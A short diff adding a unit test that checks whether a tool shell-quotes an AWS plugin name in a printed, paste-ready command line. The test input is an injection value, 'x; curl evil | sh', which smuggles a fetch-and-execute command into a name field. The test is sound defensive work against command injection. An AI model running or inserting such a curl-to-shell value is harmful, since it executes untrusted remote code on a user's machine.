@@ -180,3 +180,11 @@ describe('what was read elsewhere', () => {
     expect(rest).toContain('stdout: some');
   });
 });
+
+it('quotes in what can be pasted what is no name of AWS', () => {
+  const stray = plugin({ name: "x; curl evil | sh 'y", output: 'long\n---Output truncated---' });
+  const texts = written(outputDocument(invocation(), stray, listedReading(stray), cliOptions));
+  expect(texts.at(-1)).toBe(
+    String.raw`notice:     --instance-id ${instanceId} --plugin-name 'x; curl evil | sh '\''y'`,
+  );
+});
